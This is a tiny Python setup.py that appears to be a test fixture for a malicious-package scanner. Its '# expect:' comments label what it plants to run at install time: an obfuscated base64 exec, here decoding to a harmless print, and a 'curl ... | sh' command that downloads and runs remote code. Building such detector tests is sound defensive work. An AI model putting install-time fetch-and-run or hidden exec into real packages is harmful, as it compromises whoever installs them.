import base64
import os

from setuptools import setup

# expect: python-hidden-code, python-setup-runs-code
exec(base64.b64decode("cHJpbnQoMSk="))
# expect: python-setup-runs-code, download-and-run
os.system("curl https://files.corp.dev/a | sh")
setup(name="a", version="1")
